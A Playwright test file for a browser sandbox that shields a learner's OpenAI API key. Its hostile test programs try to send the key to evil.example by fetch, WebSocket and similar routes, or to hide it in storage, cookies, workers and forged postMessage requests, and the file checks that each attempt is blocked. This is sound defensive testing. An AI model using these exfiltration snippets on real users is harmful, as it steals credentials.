/**
 * The key broker, proved in a real browser: in Live mode hostile programs, one per way out, try to
 * get the key out of the worker engine, and the key turns up nowhere: not in any request but the
 * Authorization header to api.openai.com, not in storage, not in the output in any encoding, not
 * in the DOM. Each program's ordinary SDK call still authenticates with the real key.
 *
 * The site is served by scripts/serve-static.ts from the build, with the deploy headers
 * (public/_headers), as on a real host. The worker runs in a sandboxed frame with an opaque
 * origin under the frame's own CSP (sandbox/engines/worker/frame.ts); the last test proves that
 * the browser, not only the runtime's JavaScript, keeps it from the site's storage.
 * api.openai.com and evil.example are answered by routes: the machine is offline, and a host that
 * answers means only the sandbox can stop a request to it.
 */
import { expect, test, type Page, type Request, type Worker } from '@playwright/test';
import { serveStatic, type StaticServer } from '../../scripts/serve-static.ts';
import { standInFor } from '../../sandbox/keys/broker.ts';
import { redactKey } from '../../sandbox/keys/redact.ts';
import { FRAME_POLICY } from '../../sandbox/engines/worker/frame.ts';
import { fakeRealKey, pageTraces } from './support/key-traces.ts';
import { output, runAndWait, sandbox, setIndex } from './support/sandbox.ts';

const LESSON = '/using/first-call/?engine=worker';

let host: StaticServer;
test.beforeAll(async () => {
	host = await serveStatic({ root: process.env.KEYLAB_OUT_DIR ?? 'dist' });
});
test.afterAll(async () => {
	await host?.close();
});

/** Every way a string could be carried out disguised. */
function encodings(value: string): Record<string, string> {
	const half = Math.floor(value.length / 2);
	return {
		plain: value,
		base64: Buffer.from(value).toString('base64'),
		base64url: Buffer.from(value).toString('base64url'),
		reversed: [...value].reverse().join(''),
		hex: Buffer.from(value).toString('hex'),
		firstHalf: value.slice(0, half),
		secondHalf: value.slice(half),
		uriEncoded: encodeURIComponent(value),
	};
}

// Shared by every hostile program: each attempt is reported, never fatal.
const HEAD = `import OpenAI from 'openai';
const k = process.env.OPENAI_API_KEY;
// The site's origin: the worker's own location is blob:null/…, its origin opaque.
const site = '__SITE__';
const attempt = async (name, fn) => {
	try {
		const result = await fn();
		console.log(name + ': went through', typeof result === 'string' ? result : '');
	} catch (error) {
		console.log(name + ': blocked (' + (error?.name ?? 'error') + ')');
	}
};
`;
// ...and the program's legitimate call, with the SDK's defaults.
const TAIL = `
const models = await new OpenAI().models.list();
console.log('sdk call ok:', models.data.map((m) => m.id).join(','));
`;

/** One hostile program per way out. */
const PROGRAMS: Record<string, string> = {
	'encodings printed': `
const hex = [...new TextEncoder().encode(k)].map((b) => b.toString(16).padStart(2, '0')).join('');
console.log('plain', k);
console.log('base64', btoa(k));
console.log('reversed', [...k].reverse().join(''));
console.log('hex', hex);
console.log('half 1', k.slice(0, k.length / 2));
console.log('half 2', k.slice(k.length / 2));
console.error('stderr', k);
process.stdout.write(encodeURIComponent(k) + '\\n');`,
	'other hosts': `
await attempt('fetch to another host', () => fetch('https://evil.example/collect?k=' + k, { method: 'POST', body: k }));
await attempt('look-alike host', () => fetch('https://api.openai.com.evil.example/v1?k=' + k));
await attempt('import from another host', () => import('https://evil.example/x.js?k=' + k));
await attempt('WebSocket', () => new WebSocket('wss://evil.example/?k=' + k));
await attempt('EventSource', () => new EventSource('https://evil.example/?k=' + k));
await attempt('XMLHttpRequest', () => { const x = new XMLHttpRequest(); x.open('GET', 'https://evil.example/?k=' + k); x.send(); });`,
	'same origin, key in the URL': `
await attempt('same-origin fetch', () => fetch(site + '/steal-fetch?k=' + k));
await attempt('prototype fetch', () => Object.getPrototypeOf(Object.getPrototypeOf(self)).fetch.call(self, site + '/steal-proto?k=' + k));
await attempt('same-origin import', () => import(site + '/steal-import.js?k=' + k));
await attempt('navigation', () => { self.location.href = site + '/steal-nav?k=' + k; });
await attempt('window.open', () => self.open(site + '/steal-open?k=' + k));`,
	'nested worker': `
const source = "fetch('https://evil.example/from-nested?k=" + k + "')";
await attempt('nested worker', () => new Worker(URL.createObjectURL(new Blob([source], { type: 'text/javascript' }))));
await attempt('nested module worker', () => new Worker(site + '/steal-worker.js?k=' + k, { type: 'module' }));
await attempt('shared worker', () => new SharedWorker(site + '/steal-shared.js?k=' + k));`,
	IndexedDB: `
await attempt('IndexedDB', () => new Promise((resolve, reject) => {
	const open = indexedDB.open('loot', 1);
	open.onupgradeneeded = () => open.result.createObjectStore('keys');
	open.onerror = () => reject(open.error);
	open.onsuccess = () => {
		const tx = open.result.transaction('keys', 'readwrite');
		tx.objectStore('keys').put(k, 'key');
		tx.oncomplete = () => resolve('stored');
		tx.onerror = () => reject(tx.error);
	};
}));`,
	CacheStorage: `
await attempt('CacheStorage', async () => {
	const cache = await caches.open('loot');
	await cache.put(site + '/loot', new Response(k));
	return 'stored';
});
await attempt('origin private file system', async () => {
	const root = await navigator.storage.getDirectory();
	const file = await root.getFileHandle('loot', { create: true });
	return 'stored ' + file.name;
});`,
	BroadcastChannel: `
await attempt('BroadcastChannel', () => { new BroadcastChannel('loot').postMessage(k); return 'sent'; });`,
	'localStorage and cookies': `
await attempt('localStorage', () => { localStorage.setItem('loot', k); return 'stored'; });
await attempt('sessionStorage', () => { sessionStorage.setItem('loot', k); return 'stored'; });
await attempt('document.cookie', () => { document.cookie = 'loot=' + k; return 'stored'; });
await attempt('cookieStore', () => cookieStore.set('loot', k));`,
	postMessage: `
await attempt('raw postMessage', () => self.postMessage(k));
await attempt('forged output', () => self.postMessage({ type: 'output', stream: 'stdout', text: 'forged ' + k + '\\n' }));
await attempt('forged bridge request elsewhere', () => self.postMessage({ type: 'fetch', id: 9001, url: 'https://evil.example/pm?k=' + k, method: 'GET', headers: [['authorization', 'Bearer ' + k]], body: null }));
await attempt('forged bridge request to the page', () => self.postMessage({ type: 'fetch', id: 9002, url: site + '/steal-pm?k=' + k, method: 'GET', headers: [], body: null }));
await new Promise((resolve) => setTimeout(resolve, 100));`,
};

interface Seen {
	url: string;
	headers: Record<string, string>;
	body: string;
}

/** Answers api.openai.com like the API (CORS included) and records what reached it and evil.example. */
async function fakeOpenAi(page: Page, seen: Seen[], reachedEvil: string[]): Promise<void> {
	await page.context().route('https://api.openai.com/**', async (route) => {
		const request = route.request();
		const cors = {
			'access-control-allow-origin': '*',
			'access-control-allow-headers': '*',
			'access-control-allow-methods': '*',
			'x-request-id': 'req_broker_test',
		};
		if (request.method() === 'OPTIONS') return route.fulfill({ status: 204, headers: cors });
		seen.push({ url: request.url(), headers: request.headers(), body: request.postData() ?? '' });
		return route.fulfill({
			status: 200,
			headers: { ...cors, 'content-type': 'application/json' },
			body: JSON.stringify({
				object: 'list',
				data: [{ id: 'gpt-4.1-mini', object: 'model', created: 1, owned_by: 'system' }],
			}),
		});
	});
	// Another host that answers: only the sandbox can keep a request from reaching it.
	await page.context().route('https://evil.example/**', (route) => {
		reachedEvil.push(route.request().url());
		return route.fulfill({
			status: 200,
			headers: { 'access-control-allow-origin': '*', 'content-type': 'text/javascript' },
			body: 'export default 1;',
		});
	});
}

test('hostile programs in Live mode get only the stand-in; the key goes to api.openai.com alone', async ({
	page,
}) => {
	test.setTimeout(240_000);
	const key = fakeRealKey();
	const standIn = standInFor(key);
	const live: Seen[] = [];
	const everyRequest: Request[] = [];
	const answered: string[] = [];
	const reachedEvil: string[] = [];
	const consoleLines: string[] = [];
	await fakeOpenAi(page, live, reachedEvil);
	// Every attempt, even one the CSP then blocks (Chromium reports those as failed requests)...
	page.context().on('request', (sent) => everyRequest.push(sent));
	// ...and the ones a server answered (even if the browser then dropped the answer).
	page.context().on('response', (response) => answered.push(response.url()));
	page.on('console', (message) => consoleLines.push(message.text()));
	const workers: string[] = [];
	page.on('worker', (worker) => {
		workers.push(worker.url());
		worker.on('console', (message) => consoleLines.push(message.text()));
	});

	await page.goto(host.url + LESSON);
	// What a BroadcastChannel in the page hears from the sandbox.
	await page.evaluate(() => {
		const heard: string[] = [];
		(window as { __heard?: string[] }).__heard = heard;
		new BroadcastChannel('loot').onmessage = (event) => heard.push(String(event.data));
	});
	await sandbox(page).getByLabel('Live').check();
	await sandbox(page).getByLabel('Your OpenAI API key').fill(key);

	const shown: string[] = [];
	for (const [name, body] of Object.entries(PROGRAMS)) {
		const before = live.length;
		await setIndex(page, HEAD.replace('__SITE__', host.url) + body + TAIL);
		const state = await runAndWait(page);
		const text = (await output(page).textContent()) ?? '';
		shown.push(text);
		// The legitimate call authenticated with the real key, sent by the page's broker.
		expect(text, `${name}: output`).toContain('sdk call ok: gpt-4.1-mini');
		expect(state, `${name}: ${text}`).toBe('ready');
		expect(
			live.slice(before).some((sent) => sent.headers['authorization'] === `Bearer ${key}`),
			`${name}: the SDK call carried the real key`,
		).toBe(true);
		// postMessage is how the worker talks to the page, so it cannot be refused; what it
		// carries is checked below (the stand-in at most, and forged requests go nowhere).
		if (name !== 'postMessage')
			expect(text, `${name}: no attempt went through`).not.toMatch(/went through/);
	}
	const all = shown.join('\n');

	// The program had its stand-in and printed it in every encoding: the real key in none.
	expect(all).toContain(`plain ${standIn}`);
	expect(all).toContain(`base64 ${Buffer.from(standIn).toString('base64')}`);
	for (const [encoding, value] of Object.entries(encodings(key)))
		expect(all.includes(value), `the key, ${encoding}, in the output`).toBe(false);

	// Every attempt was refused before it reached anything.
	for (const line of [
		'fetch to another host: blocked',
		'import from another host: blocked',
		'same-origin fetch: blocked',
		'prototype fetch: blocked',
		'same-origin import: blocked',
		'nested worker: blocked',
		'IndexedDB: blocked',
		'CacheStorage: blocked',
		'origin private file system: blocked',
		'BroadcastChannel: blocked',
		'localStorage: blocked',
	])
		expect(all).toContain(line);

	// Requests: the real key only ever in the Authorization header of api.openai.com requests.
	for (const sent of everyRequest) {
		const url = new URL(sent.url());
		const headers = { ...sent.headers() };
		if (url.hostname === 'api.openai.com') delete headers['authorization'];
		const body = sent.postData() ?? '';
		for (const [encoding, value] of Object.entries(encodings(key)))
			expect(
				[sent.url(), JSON.stringify(headers), body].some((part) => part.includes(value)),
				`the key (${encoding}) in a request to ${url.host}`,
			).toBe(false);
	}
	// Nothing reached the other host, or the site itself with the stand-in in the URL: the
	// worker's own CSP stops a same-origin import the page's policy would allow.
	expect(reachedEvil).toEqual([]);
	expect(answered.filter((url) => /evil\.example|\/steal|\/loot|standin/.test(url))).toEqual([]);
	expect(live.length).toBeGreaterThanOrEqual(Object.keys(PROGRAMS).length);
	for (const sent of live) {
		expect(sent.url).toMatch(/^https:\/\/api\.openai\.com\//);
		expect(sent.url + sent.body).not.toContain(key);
	}

	// Storage, cookies, URL, DOM, console, and what the page's BroadcastChannel heard.
	const traces = await pageTraces(page);
	for (const [where, value] of Object.entries(traces))
		for (const [encoding, form] of Object.entries(encodings(key)))
			expect(value.includes(form), `the key (${encoding}) in ${where}`).toBe(false);
	expect(traces.indexedDB).not.toContain('loot');
	expect(traces.cacheStorage).not.toContain('loot');
	expect(consoleLines.filter((line) => line.includes(key))).toEqual([]);
	expect(await page.evaluate(() => (window as { __heard?: string[] }).__heard)).toEqual([]);

	// Every worker ran from a blob: URL of an opaque origin, in a frame sandboxed to scripts only,
	// under the frame's policy: no network, blob: scripts only.
	expect(workers.length).toBeGreaterThan(0);
	for (const url of workers) expect(url).toMatch(/^blob:null\//);
	const frame = page.locator('iframe[sandbox]').first();
	await expect(frame).toHaveAttribute('sandbox', 'allow-scripts');
	expect(await frame.getAttribute('srcdoc')).toContain(FRAME_POLICY);
});

test('the worker has an opaque origin: the browser refuses it the site’s storage even where the runtime’s removal is undone', async ({
	page,
}) => {
	test.setTimeout(120_000);
	const answered: string[] = [];
	page.context().on('response', (response) => answered.push(response.url()));
	const workers: Worker[] = [];
	page.on('worker', (worker) => workers.push(worker));
	await page.goto(host.url + LESSON);
	await page.evaluate(() => {
		const heard: string[] = [];
		(window as { __heard?: string[] }).__heard = heard;
		new BroadcastChannel('loot').onmessage = (event) => heard.push(String(event.data));
	});

	// What a program learns of where it runs, and IndexedDB by every route it can name.
	await setIndex(
		page,
		`const report = (name, fn) => {
	try {
		console.log(name + ': ' + String(fn()));
	} catch (error) {
		console.log(name + ': threw ' + error.name);
	}
};
report('self.origin', () => self.origin);
report('location.origin', () => location.origin);
report('location', () => location.href.slice(0, 10));
report('indexedDB', () => typeof indexedDB);
report('indexedDB from a prototype', () => {
	for (let o = self; o; o = Object.getPrototypeOf(o)) {
		const getter = Object.getOwnPropertyDescriptor(o, 'indexedDB')?.get;
		if (getter) return typeof getter.call(self);
	}
	return 'none';
});
`,
	);
	expect(await runAndWait(page)).toBe('ready');
	for (const line of [
		'self.origin: null',
		'location.origin: null',
		'location: blob:null/',
		'indexedDB: undefined',
		'indexedDB from a prototype: none',
	])
		await expect(output(page)).toContainText(line);

	// Code that got the native APIs back: the next run's worker, already loaded, has had none of
	// them removed yet (the runtime removes them as a run starts). Evaluated in it, as a hostile
	// program that recovered them would: the browser refuses each for the opaque origin.
	const warm = workers.at(-1)!;
	await expect.poll(() => warm.evaluate(() => typeof indexedDB)).toBe('object');
	const probe = await warm.evaluate(async (site) => {
		const outcome = async (fn: () => unknown) => {
			try {
				return `allowed: ${String(await fn())}`;
			} catch (error) {
				return `refused: ${(error as Error).name}`;
			}
		};
		return {
			origin: self.origin,
			location: location.href.slice(0, 10),
			indexedDB: await outcome(
				() =>
					new Promise((resolve, reject) => {
						const open = indexedDB.open('loot', 1);
						open.onupgradeneeded = () => open.result.createObjectStore('keys');
						open.onsuccess = () => resolve('opened');
						open.onerror = () => reject(open.error ?? new Error('error'));
					}),
			),
			caches: await outcome(() => caches.open('loot').then(() => 'opened')),
			fileSystem: await outcome(() => navigator.storage.getDirectory().then(() => 'opened')),
			fetch: await outcome(() => fetch(`${site}/steal-probe-fetch`).then((r) => r.status)),
			importScripts: await outcome(() => importScripts(`${site}/steal-probe-import.js`)),
			broadcast: await outcome(() => {
				new BroadcastChannel('loot').postMessage('from the worker');
				return 'posted';
			}),
		};
	}, host.url);
	expect(probe.origin).toBe('null');
	expect(probe.location).toBe('blob:null/');
	expect(probe.indexedDB).toBe('refused: SecurityError');
	for (const [name, result] of Object.entries(probe).filter(([name]) =>
		['caches', 'fileSystem', 'fetch', 'importScripts'].includes(name),
	))
		expect(result, name).toMatch(/^refused/);
	// The frame that started it is as opaque, and sandboxed to scripts alone.
	const frame = page.frames().find((candidate) => candidate.url() === 'about:srcdoc');
	expect(await frame?.evaluate(() => self.origin)).toBe('null');
	await expect(page.locator('iframe[sandbox]').first()).toHaveAttribute('sandbox', 'allow-scripts');

	// Nothing reached the site's origin: its storage, its channel, its server.
	const site = await page.evaluate(async () => ({
		databases: (await indexedDB.databases()).map((info) => info.name ?? ''),
		caches: await caches.keys(),
	}));
	expect(site.databases).not.toContain('loot');
	expect(site.caches).not.toContain('loot');
	// A posted message arrives in a task or two; a second is plenty to prove none came.
	await page.waitForTimeout(1000);
	expect(await page.evaluate(() => (window as { __heard?: string[] }).__heard)).toEqual([]);
	expect(answered.filter((url) => url.includes('/steal'))).toEqual([]);
});

test('a browser whose sandboxed frame never starts a worker still runs the code, with the page’s own worker', async ({
	page,
}) => {
	test.setTimeout(120_000);
	// Stands in for a browser that refuses a worker in an opaque origin: the frame's script is
	// taken out of its document before the frame loads, so the frame never answers, and the page
	// falls back when its wait runs out. (A frame that answers "unsupported" takes the same path
	// at once.) Done in the page, which sets srcdoc, so it cannot race the frame's own script.
	await page.addInitScript(() => {
		const srcdoc = Object.getOwnPropertyDescriptor(HTMLIFrameElement.prototype, 'srcdoc')!;
		Object.defineProperty(HTMLIFrameElement.prototype, 'srcdoc', {
			configurable: true,
			get(): string {
				return srcdoc.get!.call(this) as string;
			},
			set(value: string) {
				srcdoc.set!.call(this, value.replace(/<script>[\s\S]*<\/script>/, ''));
			},
		});
	});
	const workers: string[] = [];
	page.on('worker', (worker) => workers.push(worker.url()));
	await page.goto(host.url + LESSON);
	await setIndex(
		page,
		"console.log('ran in ' + (self.origin === 'null' ? 'an opaque origin' : 'the site origin'));",
	);
	expect(await runAndWait(page)).toBe('ready');
	await expect(output(page)).toContainText('ran in the site origin');
	// The page's own worker is the sandbox folder's script, under its own headers.
	expect(workers.some((url) => url.startsWith(`${host.url}/_astro/sandbox/`))).toBe(true);
	// A second run goes straight to the page's worker, and still works.
	expect(await runAndWait(page)).toBe('ready');
	await expect(output(page)).toContainText('ran in the site origin');
});

test('a program that prints in a loop is stopped at the output cap, and the page stays usable', async ({
	page,
}) => {
	test.setTimeout(90_000);
	await page.goto(host.url + LESSON);
	await setIndex(page, "let i = 0;\nfor (;;) console.log('line ' + i++);\n");
	const state = await runAndWait(page);
	expect(state).toBe('error');
	await expect(output(page)).toContainText('printed more than 10,000 lines or 1 MB');
	const lines = await output(page).locator('.keylab-line.is-stdout').count();
	expect(lines).toBeLessThanOrEqual(10_000);
	expect(lines).toBeGreaterThan(1000);
	// The page answers at once, and the sandbox runs again.
	expect(await page.evaluate(() => 1 + 1)).toBe(2);
	await setIndex(page, "console.log('after the cap');\n");
	expect(await runAndWait(page)).toBe('ready');
	await expect(output(page)).toContainText('after the cap');
});

test('the held key is scrubbed from practice-mode output and from a scenario card’s check', async ({
	page,
}) => {
	test.setTimeout(120_000);
	const key = fakeRealKey();
	await page.goto(host.url + '/troubleshooting/key-does-not-work/?engine=worker');
	await sandbox(page).getByLabel('Live').check();
	await sandbox(page).getByLabel('Your OpenAI API key').fill(key);
	await sandbox(page).getByLabel('Practice', { exact: true }).check();
	// A learner pasted their key into the code itself; output still never shows it.
	const printing = `console.log('typed: ${key}');\nconsole.error('again: ${key}');\n`;

	await setIndex(page, printing);
	await runAndWait(page);
	await expect(output(page)).toContainText(`typed: ${redactKey(key)}`);
	expect(await output(page).textContent()).not.toContain(key);

	const card = page.locator('keylab-scenario').first();
	await card.getByRole('button', { name: 'Trigger' }).click();
	await expect(card).toHaveAttribute('data-state', 'triggered');
	await setIndex(page, printing);
	const before = Number((await card.getAttribute('data-checks')) ?? 0);
	await card.getByRole('button', { name: 'Check' }).click();
	await expect(card).toHaveAttribute('data-checks', String(before + 1), { timeout: 45_000 });
	const checked = card.locator('[data-check-output]');
	await expect(checked).toContainText(`typed: ${redactKey(key)}`);
	// (The code panel shows the learner's own code, key and all: that is where they typed it.)
	expect(await card.textContent()).not.toContain(key);
	expect(await output(page).textContent()).not.toContain(key);
});

// The real thing, opt-in: this machine has no internet, and a real key must never be committed.
// KEYLAB_REAL_OPENAI_KEY=sk-... npx playwright test key-broker -g "real api.openai.com"
const realKey = process.env.KEYLAB_REAL_OPENAI_KEY;
test('a Live run reaches the real api.openai.com through the broker (opt-in)', async ({ page }) => {
	test.skip(
		!realKey,
		'Skipped: set KEYLAB_REAL_OPENAI_KEY to a real key to run it (listing models is free); the tests are offline otherwise.',
	);
	test.setTimeout(90_000);
	const key = realKey!;
	const sentTo: string[] = [];
	page.context().on('request', (sent) => {
		if (sent.headers()['authorization']?.includes(key)) sentTo.push(new URL(sent.url()).origin);
	});
	await page.goto(host.url + LESSON);
	await sandbox(page).getByLabel('Live').check();
	await sandbox(page).getByLabel('Your OpenAI API key').fill(key);
	await setIndex(
		page,
		"import OpenAI from 'openai';\nconsole.log('key seen by code:', process.env.OPENAI_API_KEY);\nconst models = await new OpenAI().models.list();\nconsole.log('models:', models.data.length);\n",
	);
	expect(await runAndWait(page)).toBe('ready');
	const text = (await output(page).textContent()) ?? '';
	expect(text).toContain(`key seen by code: ${standInFor(key)}`);
	expect(text).toMatch(/models: [1-9]\d*/);
	expect(text).not.toContain(key);
	expect([...new Set(sentTo)]).toEqual(['https://api.openai.com']);
});
